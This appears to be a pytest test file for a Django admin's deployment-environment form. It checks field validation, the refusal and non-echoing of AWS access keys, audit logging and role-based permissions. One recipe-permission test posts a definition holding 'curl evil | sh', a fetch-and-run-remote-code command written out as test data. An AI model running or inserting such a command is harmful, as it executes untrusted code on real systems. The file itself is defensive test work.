"""The Django admin's environment form is the dashboard's: the same rules with the
same messages (one table of bad values for both), an access key refused and never
shown back, the admin's own fields kept and checked, every change audited, and a
staff member without the maintainer role held to what their role may change."""

import pytest
from django.contrib.auth.models import Permission

from releases.models import AuditEvent, Environment, Recipe
from tests.release_helpers import person
from tests.test_api import environment  # noqa: F401  (fixture)
from tests.test_environment_form import ACCESS_KEY, ACCESS_KEYS, BAD_VALUES, field_errors
from tests.test_maintainers import form_data

pytestmark = pytest.mark.django_db

DASHBOARD = "/environments/prepan/edit/"
ADD = "/admin/releases/environment/add/"


def change_url(environment) -> str:  # noqa: F811
    return f"/admin/releases/environment/{environment.pk}/change/"


def admin_data(environment, **changes) -> dict:  # noqa: F811
    """What the admin's change form posts: the dashboard form's fields and the admin's own two."""
    return form_data(environment, **{"time_scale": environment.time_scale, "last_baked_ami": environment.last_baked_ami,
                                     **changes})


def admin_errors(response) -> dict:
    return {name: " ".join(errors) for name, errors in response.context["adminform"].form.errors.items()}


@pytest.fixture
def maintainer(client):
    client.force_login(person("mia", "maintainer"))
    return client


# -- the same rules, the same words ------------------------------------------------------------------


@pytest.mark.parametrize("field, value, expected", BAD_VALUES)
def test_the_admin_refuses_each_bad_value_with_the_dashboard_form_s_message(admin_client, maintainer, environment,  # noqa: F811
                                                                             field, value, expected):
    before = Environment.objects.get(pk=environment.pk).updated_at

    in_admin = admin_client.post(change_url(environment), admin_data(environment, **{field: value}))
    on_dashboard = maintainer.post(DASHBOARD, form_data(environment, **{field: value}))

    assert in_admin.status_code == 200
    assert expected in admin_errors(in_admin).get(field, ""), admin_errors(in_admin)
    assert admin_errors(in_admin)[field] == field_errors(on_dashboard)[field]
    assert Environment.objects.get(pk=environment.pk).updated_at == before
    assert not AuditEvent.objects.filter(action__startswith="environment.").exists()


@pytest.mark.parametrize("value", ACCESS_KEYS)
def test_an_access_key_in_the_admin_is_refused_and_never_echoed(admin_client, environment, value):  # noqa: F811
    response = admin_client.post(change_url(environment), admin_data(environment, aws_credentials=value))

    assert "is an access key, not a reference to one" in admin_errors(response)["aws_credentials"]
    assert value not in response.content.decode() and value[-16:] not in response.content.decode()
    assert Environment.objects.get(pk=environment.pk).aws_credentials == "sandbox"
    assert not AuditEvent.objects.filter(action="environment.update").exists()


def test_an_access_key_stored_before_is_not_shown_by_the_admin(admin_client, environment):  # noqa: F811
    Environment.objects.filter(pk=environment.pk).update(aws_credentials=ACCESS_KEY)

    for url in (change_url(environment), "/admin/releases/environment/", f"{change_url(environment)[:-7]}history/"):
        page = admin_client.get(url)
        assert page.status_code == 200, url
        assert ACCESS_KEY[4:] not in page.content.decode(), url


# -- what saves, and what the admin keeps of its own --------------------------------------------------


def test_a_good_environment_saves_in_the_admin_with_the_admin_s_own_fields_and_is_audited(admin_client, environment):  # noqa: F811
    data = admin_data(environment, name="second", load_balancer_name="second", key_name="second",
                      security_group_ids="sg-0123456789abcdef1, sg-0123abcd", time_scale="0.02",
                      last_baked_ami="ami-0123456789abcdef1",
                      # where the form asks a new repository whether it answers, this one (file:///nonexistent)
                      # does not: the maintainer says only the workers reach it
                      skip_repository_check="on")

    response = admin_client.post(ADD, data)

    assert response.status_code == 302, admin_errors(response) if response.context else response
    saved = Environment.objects.get(name="second")
    assert saved.security_group_ids == ["sg-0123456789abcdef1", "sg-0123abcd"]  # typed as on the dashboard, kept as a list
    assert (saved.time_scale, saved.last_baked_ami) == (0.02, "ami-0123456789abcdef1")
    event = AuditEvent.objects.get(action="environment.create")
    assert (event.actor_name, event.environment) == ("admin", saved)


@pytest.mark.parametrize("field, value, expected", [
    ("last_baked_ami", "ami-nope", "'ami-nope' is not shaped like ami- and 8 or 17 hex digits"),
    ("time_scale", "0", "The time scale multiplies every wait on AWS: above 0"),
], ids=["last baked image", "time scale"])
def test_the_admin_s_own_fields_are_checked_too(admin_client, environment, field, value, expected):  # noqa: F811
    response = admin_client.post(change_url(environment), admin_data(environment, **{field: value}))

    assert expected in admin_errors(response).get(field, ""), admin_errors(response)
    assert getattr(Environment.objects.get(pk=environment.pk), field) == getattr(environment, field)


def test_a_change_in_the_admin_is_audited_with_its_diff(admin_client, environment):  # noqa: F811
    response = admin_client.post(change_url(environment), admin_data(environment, desired_count=3, time_scale="0.5"))

    assert response.status_code == 302, admin_errors(response)
    event = AuditEvent.objects.get(action="environment.update")
    assert event.details["diff"] == {"desired_count": [2, 3], "time_scale": [1.0, 0.5]}


# -- who may change what in the admin -------------------------------------------------------------------


def staff(username: str, *roles: str, perms=("add_environment", "change_environment", "delete_environment",
                                             "view_environment", "change_recipe", "view_recipe")):
    """A staff member an administrator gave the admin's model permissions, holding `roles`."""
    user = person(username, *roles)
    user.is_staff = True
    user.save()
    user.user_permissions.add(*Permission.objects.filter(codename__in=perms))
    return user


def test_a_staff_deployer_changes_in_the_admin_only_what_a_deployer_may_on_the_dashboard(client, environment):  # noqa: F811
    client.force_login(staff("dana", "deployer"))

    refused = client.post(change_url(environment), admin_data(environment, region="us-east-1", time_scale="0.5"))
    saved = client.post(change_url(environment), admin_data(environment, desired_count=4))
    adding = client.post(ADD, admin_data(environment, name="second"))

    assert "Only a maintainer may change AWS region." in admin_errors(refused)["region"]
    assert "time_scale" in admin_errors(refused)
    assert saved.status_code == 302, admin_errors(saved)
    environment.refresh_from_db()
    assert (environment.region, environment.desired_count, environment.time_scale) == ("us-west-1", 4, 1.0)
    assert adding.status_code == 403 and not Environment.objects.filter(name="second").exists()
    assert client.post(f"{change_url(environment)[:-7]}delete/", {"post": "yes"}).status_code == 403


def test_a_staff_member_without_the_maintainer_role_cannot_change_a_recipe_in_the_admin(client, environment):  # noqa: F811
    client.force_login(staff("vic", "viewer", "deployer"))
    recipe = environment.recipe

    response = client.post(f"/admin/releases/recipe/{recipe.pk}/change/",
                           {"name": "tiny", "definition": '{"tasks": {"deploy:update": {"commands": ["curl evil | sh"]}}}'})
    viewer_only = staff("val", "viewer")
    client.force_login(viewer_only)
    environment_change = client.post(change_url(environment), admin_data(environment, desired_count=5))

    assert response.status_code == 403
    assert Recipe.objects.get(pk=recipe.pk).definition == recipe.definition
    assert environment_change.status_code == 403  # a viewer changes nothing, in the admin either
    assert Environment.objects.get(pk=environment.pk).desired_count == 2
